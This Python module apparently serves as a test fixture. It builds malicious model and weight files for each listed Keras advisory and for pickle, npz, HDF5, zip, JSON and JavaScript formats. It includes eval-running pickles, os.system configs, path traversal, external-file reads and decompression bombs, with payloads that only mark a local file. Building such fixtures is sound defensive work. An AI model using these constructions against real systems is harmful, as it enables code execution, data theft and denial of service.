"""Files made to run code, to read or write other files, or to exhaust the machine.

Each advisory that Keras has published is here, as its file would be:
CVE-2024-3660   a Lambda layer with a marshalled function
CVE-2024-55459  an archive whose paths climb out of the folder (so CVE-2025-12060)
CVE-2025-1550   a configuration that names any function of any module, with its arguments
CVE-2025-8747   … of Keras itself: get_file fetches, load_model opens it without safe mode
CVE-2025-9905   the Lambda in an HDF5 file, where safe mode is not looked at
CVE-2025-9906   a configuration that switches safe mode off before its Lambda comes
CVE-2025-12058  a StringLookup whose vocabulary is a file or an address
CVE-2025-49655  a TorchModuleWrapper with a pickle in it
CVE-2026-0897   a data set that declares more numbers than any machine holds
CVE-2026-1669   a data set whose numbers are in another file
"""

import base64
import io
import json
import marshal
import pickle
import re
import zipfile

import h5py
import numpy as np

import interp

SECRET, RAN = "secret.txt", "ran"
FILES = {}


def hostile(function):
    """Adds a function (folder) -> path to FILES, under its own name."""
    FILES[function.__name__] = function
    return function


def network():
    rng = np.random.default_rng(0)
    layer = interp.Dense(rng.normal(size=(784, 2)), np.zeros(2), name="dense")
    return interp.Network([layer], name="plain")


def code(folder):
    return f"open({str(folder / RAN)!r}, 'w')"


def keras_file(folder, edit=None, **members):
    """A .keras file with its configuration edited and members exchanged or added."""
    path = interp.save(network(), folder / "plain.keras")
    with zipfile.ZipFile(path) as archive:
        held = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(held["config.json"])
    if edit:
        edit(config, config["config"]["layers"])
        held["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (held | members).items():
            archive.writestr(name, content)
    return path


def weights(fill):
    """The content of an HDF5 file whose group of the one layer's weights is given to `fill`."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        fill(file.create_group("layers/dense/vars"))
    return stream.getvalue()


def with_weights(folder, fill):
    return keras_file(folder, **{"model.weights.h5": weights(fill)})


def lambda_layer(folder):
    run = eval(f"lambda x: ({code(folder)}, x)[1]")
    packed = base64.b64encode(marshal.dumps(run.__code__)).decode()
    inner = {"code": packed, "defaults": None, "closure": None}
    config = {"name": "run", "function": {"class_name": "__lambda__", "config": inner}}
    return {"module": "keras.layers", "class_name": "Lambda", "config": config, "name": "run"}


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


@hostile
def cve_2024_3660_lambda(folder):
    return keras_file(folder, lambda _, layers: layers.append(lambda_layer(folder)))


@hostile
def cve_2024_55459_climbing_paths(folder):
    outside = {"../climbed": b"", "/tmp/climbed": b"", "..\\climbed": b"", "assets/../../x": b""}
    return keras_file(folder, **outside)


@hostile
def cve_2025_1550_any_function(folder):
    def edit(config, layers):
        layer = function("os", "system") | {"class_name": "function", "name": "run"}
        layers.append({**layer, "config": {"0": f"touch {folder / RAN}"}})

    return keras_file(folder, edit)


@hostile
def cve_2025_1550_as_an_activation(folder):
    def edit(_, layers):
        layers[-1]["config"]["activation"] = function("builtins", "eval") | {"inner": code(folder)}

    return keras_file(folder, edit)


@hostile
def cve_2025_1550_as_what_is_not_needed(folder):
    def edit(config, layers):
        layers[-1]["config"]["kernel_initializer"] = function("os", "system")
        layers[-1]["config"]["kernel_constraint"] = function("builtins", "exec")
        layers[-1]["build_config"] = function("antigravity", "geohash")
        config["compile_config"] = {"loss": function("os", "system"), "optimizer": code(folder)}

    return keras_file(folder, edit)


@hostile
def cve_2025_1550_a_layer_by_another_module(folder):
    return keras_file(folder, lambda _, layers: layers[-1].update(module="antigravity"))


@hostile
def cve_2025_1550_a_model_by_another_module(folder):
    return keras_file(folder, lambda config, _: config.update(module="this", class_name="Model"))


@hostile
def cve_2025_1550_a_registered_name(folder):
    return keras_file(folder, lambda _, layers: layers[-1].update(registered_name="this>Dense"))


def cve_2025_8747_chain(folder, first, **arguments):
    config = {"name": "run", "function": first, "arguments": arguments}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": config, "name": "run"}
    return keras_file(folder, lambda _, layers: layers.extend([layer, lambda_layer(folder)]))


@hostile
def cve_2025_8747_get_file(folder):
    origin = f"file://{folder / SECRET}"
    return cve_2025_8747_chain(folder, function("keras.utils", "get_file"), origin=origin)


@hostile
def cve_2025_9905_lambda_in_hdf5(folder):
    door = {"class_name": "InputLayer", "config": {"batch_shape": [None, 784], "name": "door"}}
    layers = [door, lambda_layer(folder)]
    model = {"class_name": "Sequential", "config": {"name": "run", "layers": layers}}
    with h5py.File(folder / "lambda.h5", "w") as file:
        file.attrs["model_config"] = json.dumps(model)
        file.create_group("model_weights")
    return folder / "lambda.h5"


@hostile
def cve_2025_9906_safe_mode_off(folder):
    first = function("keras.config", "enable_unsafe_deserialization")
    return cve_2025_8747_chain(folder, first)


@hostile
def cve_2025_12058_vocabulary(folder):
    def edit(_, layers):
        config = {"name": "words", "vocabulary": str(folder / SECRET)}
        layers.insert(1, {"module": "keras.layers", "class_name": "StringLookup", "config": config})

    return keras_file(folder, edit)


class Payload:
    """Whose unpickling runs the code that it holds."""

    def __init__(self, text):
        self.text = text

    def __reduce__(self):
        return eval, (self.text,)


@hostile
def cve_2025_49655_torch_in_keras(folder):
    def edit(_, layers):
        packed = base64.b64encode(pickle.dumps(Payload(code(folder)))).decode()
        config = {"name": "run", "module": {"class_name": "__bytes__", "config": packed}}
        layers.append({"class_name": "TorchModuleWrapper", "config": config})

    return keras_file(folder, edit)


@hostile
def cve_2026_0897_declared_and_never_stored(folder):
    shape = (10**6, 10**6)
    return with_weights(folder, lambda group: group.create_dataset("0", shape, "f4"))


@hostile
def cve_2026_0897_declared_in_pieces(folder):
    return with_weights(
        folder,
        lambda group: group.create_dataset(
            "0", (10**6, 10**6), "f4", chunks=(1000, 1000), compression="gzip"
        ),
    )


@hostile
def cve_2026_1669_external_storage(folder):
    places = [(str(folder / SECRET), 0, 784 * 8)]
    return with_weights(
        folder, lambda group: group.create_dataset("0", (784, 2), "f4", external=places)
    )


def other_hdf5(folder):
    with h5py.File(folder / "other.h5", "w") as file:
        file["a"] = np.ones((784, 2), np.float32)
    return folder / "other.h5"


@hostile
def hdf5_external_link(folder):
    other = other_hdf5(folder)

    def fill(group):
        group["0"] = h5py.ExternalLink(str(other), "a")

    return with_weights(folder, fill)


@hostile
def hdf5_virtual_data_set(folder):
    layout = h5py.VirtualLayout((784, 2), "f4")
    layout[:] = h5py.VirtualSource(str(other_hdf5(folder)), "a", (784, 2))
    return with_weights(folder, lambda group: group.create_virtual_dataset("0", layout))


@hostile
def npz_pickled(folder):
    with open(folder / "plain.npz", "wb") as file:
        np.savez(file, interp=np.array([Payload(code(folder))], object))
    return folder / "plain.npz"


@hostile
def npz_of_a_stranger_with_a_pickle(folder):
    with open(folder / "arrays.npz", "wb") as file:
        np.savez(file, w1=np.zeros((784, 10)), b1=np.array([Payload(code(folder))], object))
    return folder / "arrays.npz"


@hostile
def weights_beside_a_model_with_a_lambda(folder):
    with h5py.File(folder / "only.weights.h5", "w") as file:
        file["layers/dense/vars/0"] = np.zeros((784, 10))
    door = {"class_name": "InputLayer", "config": {"batch_shape": [None, 784], "name": "door"}}
    layers = [door, lambda_layer(folder)]
    model = {"class_name": "Sequential", "config": {"name": "run", "layers": layers}}
    (folder / "only.json").write_text(json.dumps(model))
    return folder / "only.weights.h5"


@hostile
def weights_behind_a_link(folder):
    other = other_hdf5(folder)
    with h5py.File(folder / "only.weights.h5", "w") as file:
        file.create_group("layers/dense/vars")["0"] = h5py.ExternalLink(str(other), "a")
    return folder / "only.weights.h5"


def text(folder, content):
    (folder / "net.json").write_text(content)
    return folder / "net.json"


@hostile
def json_of_empty_lists(folder):
    return text(folder, '{"w": [' + "[], " * 2_900_000 + "[]]}")


@hostile
def json_of_long_and_short_texts(folder):
    return text(folder, '{"w": ["' + "x" * 5_000_000 + '"' + ', "1"' * 1_000_000 + "]}")


@hostile
def json_without_end(folder):
    return text(folder, '{"w": ' + "[" * 10_000_000)


@hostile
def tables_of_single_numbers(folder):
    return text(folder, "12\n" * 3_900_000)


@hostile
def pickled(folder):
    (folder / "net.keras").write_bytes(pickle.dumps(Payload(code(folder)), protocol=4))
    return folder / "net.keras"


@hostile
def pytorch(folder):
    with zipfile.ZipFile(folder / "net.pt", "w") as archive:
        archive.writestr("net/data.pkl", pickle.dumps(Payload(code(folder))))
    return folder / "net.pt"


@hostile
def zip_bomb(folder):
    return keras_file(folder, **{"config.json": bytes(200_000_000)})


@hostile
def zip_bomb_that_declares_little(folder):
    path = keras_file(folder, **{"config.json": b"[" + b" " * 60_000_000})
    content, size = bytearray(path.read_bytes()), struct_of(60_000_001)
    for found in re.finditer(re.escape(size), bytes(content)):
        content[found.start() : found.end()] = struct_of(1000)
    path.write_bytes(content)
    return path


def struct_of(number):
    return number.to_bytes(4, "little")


@hostile
def nested_brackets(folder):
    return keras_file(folder, **{"config.json": b"[" * 1_900_000})


@hostile
def nested_objects(folder):
    return keras_file(folder, **{"config.json": b'{"a":' * 300_000})


@hostile
def nested_models(folder):
    def edit(config, layers):
        for _ in range(200):
            layers[:] = [{"class_name": "Sequential", "config": {"layers": [*layers]}}]

    return keras_file(folder, edit)


def javascript(folder, text):
    rows = json.dumps([[0.5] * 784] * 2)
    arrays = f"var w12 = {rows}; var bias2 = [1, 2]; var w23 = [[1, 2]]; var bias3 = [1];\n"
    (folder / "net.js").write_text(arrays + text)
    return folder / "net.js"


@hostile
def javascript_that_calls(folder):
    text = f"require('fs').writeFileSync({str(folder / RAN)!r}, ''); fetch('http://127.0.0.1/');"
    return javascript(folder, text)


@hostile
def javascript_that_calls_in_an_array(folder):
    path = javascript(folder, "")
    path.write_text(path.read_text().replace("[1, 2]", f"[eval({code(folder)!r}), 2]"))
    return path


@hostile
def tfjs_climbing_paths(folder):
    weights = [{"name": "dense/kernel", "shape": [784, 2], "dtype": "float32"}]
    layer = {"class_name": "Dense", "config": {"name": "dense", "units": 2, "use_bias": False}}
    model = {"class_name": "Sequential", "config": {"layers": [layer]}}
    manifest = [{"paths": [f"../{folder.name}/{SECRET}"], "weights": weights}]
    content = {"modelTopology": {"model_config": model}, "weightsManifest": manifest}
    (folder / "model.json").write_text(json.dumps(content))
    return folder / "model.json"
